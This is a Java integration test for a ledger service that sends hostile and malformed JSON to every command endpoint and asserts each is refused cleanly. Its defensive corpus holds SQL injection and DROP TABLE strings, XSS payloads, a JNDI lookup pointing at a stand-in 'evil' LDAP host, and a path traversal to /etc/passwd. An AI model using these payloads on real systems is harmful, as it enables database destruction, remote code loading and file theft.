package io.collectionsledger.ledger.security;

import com.fasterxml.jackson.databind.JsonNode;
import io.collectionsledger.contracts.shared.Money;
import io.collectionsledger.ledger.LedgerIT;
import io.collectionsledger.ledger.web.CommandHandler;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfoHandlerMapping;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A corpus of malformed and hostile requests sent to every command endpoint the application serves
 * (read from its own handler mappings): each gets a problem detail of the expected type, never a
 * 5xx, and records nothing. The bodies are a valid command of the endpoint's own type (made from
 * its record components) with one field replaced by something hostile, so the hostile value is
 * the only thing wrong with them.
 */
class HostileInputIT extends LedgerIT {

    /** What goes into a field, by the field's kind; each must be refused as an invalid command. */
    private enum Kind { AMOUNT, DATE, ENUM, ID, ANY }

    private record Hostile(String category, Kind kind, String json) {
    }

    private static final String BIG = "\"" + "A".repeat(5 * 1024 * 1024) + "\"";
    private static final String MANY = "[" + "1,".repeat(99_999) + "1]";

    private static final List<Hostile> VALUES = List.of(
            new Hostile("wrong type: number", Kind.ANY, "123"),
            new Hostile("wrong type: boolean", Kind.ANY, "true"),
            new Hostile("wrong type: object", Kind.ID, "{\"a\": 1}"),
            new Hostile("wrong type: array", Kind.DATE, "[\"2026-11-20\"]"),
            new Hostile("wrong type: money as text", Kind.AMOUNT, "\"lots\""),
            new Hostile("null", Kind.ANY, "null"),
            new Hostile("huge: 1e400", Kind.AMOUNT, "{\"amount\": 1e400, \"currency\": \"CNY\"}"),
            new Hostile("huge: 1e400 as text", Kind.AMOUNT, "{\"amount\": \"1e400\", \"currency\": \"CNY\"}"),
            new Hostile("huge: 30 digits", Kind.AMOUNT, "{\"amount\": \"123456789012345678901234567890.00\", \"currency\": \"CNY\"}"),
            new Hostile("huge: -1e400", Kind.AMOUNT, "{\"amount\": -1e400, \"currency\": \"CNY\"}"),
            new Hostile("huge: NaN", Kind.AMOUNT, "{\"amount\": \"NaN\", \"currency\": \"CNY\"}"),
            new Hostile("negative amount", Kind.AMOUNT, "{\"amount\": \"-5.00\", \"currency\": \"CNY\"}"),
            new Hostile("zero amount", Kind.AMOUNT, "{\"amount\": \"0.00\", \"currency\": \"CNY\"}"),
            new Hostile("negative zero", Kind.AMOUNT, "{\"amount\": \"-0.00\", \"currency\": \"CNY\"}"),
            new Hostile("too many decimals", Kind.AMOUNT, "{\"amount\": \"1.001\", \"currency\": \"CNY\"}"),
            new Hostile("decimals on yen", Kind.AMOUNT, "{\"amount\": \"1.5\", \"currency\": \"JPY\"}"),
            new Hostile("tiny fraction", Kind.AMOUNT, "{\"amount\": \"0.0000000001\", \"currency\": \"CNY\"}"),
            new Hostile("unknown currency", Kind.AMOUNT, "{\"amount\": \"1.00\", \"currency\": \"XYZ\"}"),
            new Hostile("unknown enum value", Kind.ENUM, "\"BITCOIN\""),
            new Hostile("enum in lower case", Kind.ENUM, "\"x\""),
            new Hostile("empty enum", Kind.ENUM, "\"\""),
            new Hostile("enum ordinal", Kind.ENUM, "0"),
            new Hostile("unicode: zero-width space", Kind.ID, "\"X\u200B-1\""),
            new Hostile("unicode: right-to-left override", Kind.ID, "\"X\u202E-1\""),
            new Hostile("unicode: NUL", Kind.ID, "\"X\\u0000-1\""),
            new Hostile("unicode: lone surrogate", Kind.ID, "\"X\\uD800-1\""),
            new Hostile("unicode: homoglyph (Cyrillic)", Kind.ID, "\"\u0425-1\""),
            new Hostile("unicode: byte-order mark", Kind.ID, "\"\uFEFFX-1\""),
            new Hostile("unicode: hidden characters in an enum", Kind.ENUM, "\"\u200B\""),
            new Hostile("oversized: 5 MB string", Kind.ID, BIG),
            new Hostile("oversized: 100k-element array", Kind.ANY, MANY),
            new Hostile("sql in an id", Kind.ID, "\"X' OR '1'='1\""),
            new Hostile("sql drop in an id", Kind.ID, "\"1; DROP TABLE domain_event_entry; --\""),
            new Hostile("script in an id", Kind.ID, "\"<script>alert(1)</script>\""),
            new Hostile("lookup injection in an id", Kind.ID, "\"${jndi:ldap://evil/x}\""),
            new Hostile("path in an id", Kind.ID, "\"../../etc/passwd\""),
            new Hostile("sql in an enum", Kind.ENUM, "\"BANK_TRANSFER' --\""),
            new Hostile("sql in a date", Kind.DATE, "\"2026-11-20'; DROP TABLE command_log; --\""),
            new Hostile("script in a date", Kind.DATE, "\"<img src=x onerror=alert(1)>\""),
            new Hostile("impossible date: 30 February", Kind.DATE, "\"2026-02-30\""),
            new Hostile("impossible date: year 99999", Kind.DATE, "\"+99999-01-01\""),
            new Hostile("impossible date: 99999 unsigned", Kind.DATE, "\"99999-01-01\""),
            new Hostile("impossible date: month 13", Kind.DATE, "\"2026-13-01\""),
            new Hostile("impossible date: zeros", Kind.DATE, "\"0000-00-00\""),
            new Hostile("impossible date: basic format", Kind.DATE, "\"20261120\""),
            new Hostile("impossible date: a number", Kind.DATE, "20261120"));

    /** Whole bodies that are not JSON at all. */
    private static final Map<String, String> MALFORMED = new LinkedHashMap<>();

    static {
        MALFORMED.put("truncated", "{\"a\": ");
        MALFORMED.put("single quotes", "{'a': 1}");
        MALFORMED.put("raw NUL", "{\"a\": \"\u0000\"}");
        MALFORMED.put("deeply nested", "{\"a\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}");
        MALFORMED.put("comment", "/* x */ {}");
    }

    /** Bodies that are JSON but not a command at all. */
    private static final Map<String, String> NOT_A_COMMAND = Map.of(
            "empty body", " ",
            "1e400 as the body", "1e400",
            "a string as the body", "\"' OR 1=1 --\"");

    private static final Pattern VARIABLE = Pattern.compile("\\{([^}]+)}");

    @Autowired
    private ApplicationContext context;

    @Test
    void everyCommandEndpointRefusesHostileInputWithAProblemAndRecordsNothing() throws Exception {
        register();
        command("/customers/{c}/invoices", """
                {"invoiceId": "INV-1", "occurredOn": "2026-11-01", "amount": {"amount": "300.00", "currency": "CNY"},
                 "terms": [{"termId": "T1", "amount": {"amount": "300.00", "currency": "CNY"}, "dueDate": "2026-12-01"}]}""");
        Map<String, Class<?>> endpoints = commandEndpoints();
        assertThat(endpoints).hasSizeGreaterThan(25);
        List<String> wrong = Collections.synchronizedList(new ArrayList<>());
        int sent = 0;
        for (Map.Entry<String, Class<?>> endpoint : endpoints.entrySet()) {
            String path = pathOf(endpoint.getKey());
            Set<String> pathFields = variables(endpoint.getKey());
            Map<String, Object> template = fields(endpoint.getValue(), pathFields);
            List<Case> cases = new ArrayList<>();
            for (Hostile hostile : VALUES) {
                String field = fieldFor(endpoint.getValue(), template, hostile.kind());
                if (field != null) {
                    cases.add(new Case(endpoint.getKey() + " " + hostile.category() + " in " + field, path, json(template, field, hostile.json()), "invalid-command"));
                }
            }
            MALFORMED.forEach((name, body) -> cases.add(new Case(endpoint.getKey() + " " + name, path, body, "malformed-json")));
            NOT_A_COMMAND.forEach((name, body) -> cases.add(new Case(endpoint.getKey() + " " + name, path, body, "invalid-command")));
            cases.add(new Case(endpoint.getKey() + " unknown field", path, json(template, "sneaky'--", "1"), "invalid-command"));
            cases.add(new Case(endpoint.getKey() + " a second command after the first", path, json(template, null, null) + " {\"x\": 1}", "invalid-command"));
            sendAll(wrong, cases);
            sent += cases.size();
        }
        assertThat(sent).isGreaterThanOrEqualTo(200);
        assertThat(wrong).isEmpty();
    }

    /** One hostile request and the problem type it must get. */
    private record Case(String name, String path, String body, String type) {
    }

    /**
     * The cases of one endpoint, several at once to keep the test short; the event count never goes
     * down, so unchanged across the batch means unchanged after each case.
     */
    private void sendAll(List<String> wrong, List<Case> cases) throws Exception {
        long events = eventCount();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            for (Future<?> done : pool.invokeAll(cases.stream().<Callable<Object>>map(c -> () -> {
                send(wrong, c.name(), c.path(), c.body(), c.type());
                return null;
            }).toList())) {
                done.get();
            }
        } finally {
            pool.shutdown();
        }
        if (eventCount() != events) {
            wrong.add(cases.get(0).path() + ": a hostile request recorded an event");
        }
    }

    private void send(List<String> wrong, String name, String path, String body, String type) {
        ResponseEntity<JsonNode> answer = command(path, body);
        String problem = answer.getBody() != null && answer.getBody().has("type") ? answer.getBody().get("type").asText() : null;
        if (answer.getStatusCode().is5xxServerError() || !MediaType.APPLICATION_PROBLEM_JSON.equals(answer.getHeaders().getContentType())
                || !("urn:collections-ledger:problem:" + type).equals(problem)) {
            wrong.add("%s: %d %s, expected %s".formatted(name, answer.getStatusCode().value(), answer.getBody(), type));
        }
    }

    /** Each command endpoint and the command type its body is read as, from the handler mappings. */
    private Map<String, Class<?>> commandEndpoints() {
        Map<String, Class<?>> endpoints = new TreeMap<>();
        context.getBeansOfType(RequestMappingInfoHandlerMapping.class).values().forEach(mapping ->
                mapping.getHandlerMethods().forEach((info, method) -> {
                    Class<?> type = commandType(method);
                    if (type != null && info.getMethodsCondition().getMethods().stream().anyMatch(m -> m.name().equals("POST"))) {
                        info.getPatternValues().forEach(pattern -> endpoints.put(pattern, type));
                    }
                }));
        return endpoints;
    }

    private static Class<?> commandType(HandlerMethod method) {
        return method.getBean() instanceof CommandHandler handler ? handler.route().command() : null;
    }

    private String pathOf(String template) {
        Matcher variable = VARIABLE.matcher(template);
        StringBuilder path = new StringBuilder();
        while (variable.find()) {
            variable.appendReplacement(path, variable.group(1).equals("customerId") ? "{c}" : "X-1");
        }
        return variable.appendTail(path).toString();
    }

    private static Set<String> variables(String template) {
        return VARIABLE.matcher(template).results().map(m -> m.group(1)).collect(Collectors.toSet());
    }

    /** A valid-looking value for every component of the command, except those the path gives. */
    private Map<String, Object> fields(Class<?> type, Set<String> fromPath) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (RecordComponent component : type.getRecordComponents()) {
            if (!fromPath.contains(component.getName())) {
                fields.put(component.getName(), value(component.getName(), component.getGenericType()));
            }
        }
        if (fields.containsKey("customerId")) {
            fields.put("customerId", "\"" + customer + "\"");
        }
        return fields;
    }

    private Object value(String name, Type type) {
        if (type instanceof ParameterizedType list && Collection.class.isAssignableFrom((Class<?>) list.getRawType())) {
            return "[" + value(name, list.getActualTypeArguments()[0]) + "]";
        }
        Class<?> raw = type instanceof ParameterizedType p ? (Class<?>) p.getRawType() : (Class<?>) type;
        if (raw == Money.class) {
            return "{\"amount\": \"10.00\", \"currency\": \"CNY\"}";
        }
        if (raw == LocalDate.class) {
            return "\"2026-11-20\"";
        }
        if (raw == BigDecimal.class || Number.class.isAssignableFrom(raw) || raw.isPrimitive() && raw != boolean.class) {
            return "1";
        }
        if (raw == boolean.class || raw == Boolean.class) {
            return "false";
        }
        if (raw.isEnum()) {
            return "\"" + ((Enum<?>) raw.getEnumConstants()[0]).name() + "\"";
        }
        if (raw.isRecord()) {
            return json(fields(raw, Set.of()), null, null);
        }
        return "\"" + (name.equals("invoiceId") ? "INV-1" : "X-1") + "\"";
    }

    /** The first component of the kind the hostile value is meant for; none if the command has no such field. */
    private static String fieldFor(Class<?> type, Map<String, Object> template, Kind kind) {
        for (RecordComponent component : type.getRecordComponents()) {
            Class<?> raw = component.getType();
            boolean fits = switch (kind) {
                // "amount" is what must be positive; a credit limit or a confirmed balance may be zero
                case AMOUNT -> raw == Money.class && component.getName().equals("amount");
                case DATE -> raw == LocalDate.class;
                case ENUM -> raw.isEnum();
                case ID -> raw == String.class && component.getName().endsWith("Id");
                case ANY -> true;
            };
            if (fits && template.containsKey(component.getName())) {
                return component.getName();
            }
        }
        return null;
    }

    private static String json(Map<String, Object> fields, String replaced, String value) {
        Map<String, Object> body = new LinkedHashMap<>(fields);
        if (replaced != null) {
            body.put(replaced, value);
        }
        return body.entrySet().stream().map(e -> "\"" + e.getKey() + "\": " + e.getValue()).collect(Collectors.joining(", ", "{", "}"));
    }
}
